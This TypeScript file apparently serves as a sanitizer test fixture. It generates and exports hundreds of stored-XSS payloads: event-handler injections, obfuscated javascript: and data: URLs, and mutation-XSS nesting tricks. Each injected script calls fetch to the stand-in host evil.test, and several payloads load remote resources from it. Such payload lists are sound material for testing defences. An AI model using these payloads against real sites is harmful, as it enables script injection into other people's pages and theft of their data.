/** Stored HTML as somebody would write it who wants a script to run in another person's page. */

const run = "globalThis.hit=1;fetch('http://evil.test/x')";
const elements = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'input',
  'details',
  'marquee',
  'a',
  'p',
  'table',
  'select',
];
const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onbegin',
];
const quotes = ['"', "'", '`', ''];

const byHandler = elements.flatMap((element) =>
  handlers.flatMap((handler) =>
    quotes.map(
      (quote) =>
        `<${element} src=x open autofocus tabindex=0 ${handler}=${quote}${run}${quote}>t</${element}>`,
    ),
  ),
);

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'data:text/html,<script>',
  'vbscript:',
  '//evil.test/',
  'http://evil.test/',
];
const holders = [
  (address: string) => `<a href="${address}${run}">t</a>`,
  (address: string) => `<iframe src="${address}${run}"></iframe>`,
  (address: string) => `<img src="${address}${run}">`,
  (address: string) => `<form action="${address}${run}"><button>t</button></form>`,
  (address: string) => `<object data="${address}${run}"></object>`,
  (address: string) => `<base href="${address}${run}">`,
  (address: string) => `<link rel="stylesheet" href="${address}${run}">`,
  (address: string) => `<svg><a xlink:href="${address}${run}"><text>t</text></a></svg>`,
  (address: string) => `<p style="background:url('${address}${run}')">t</p>`,
];
const byAddress = addresses.flatMap((address) => holders.map((hold) => hold(address)));

const byNesting = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<template><script>${run}</script></template>`,
  `<textarea></textarea><img src=x onerror=${run}>`,
  `<style>@import 'http://evil.test/x';</style>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.test/">`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<img srcset="http://evil.test/x 1x">`,
  `<video poster="http://evil.test/x"></video>`,
  `<details open ontoggle=${run}>t</details>`,
  `<a href="/m/home" onclick="${run}">t</a>`,
];

export const hostileHtml: readonly string[] = [...byHandler, ...byAddress, ...byNesting];
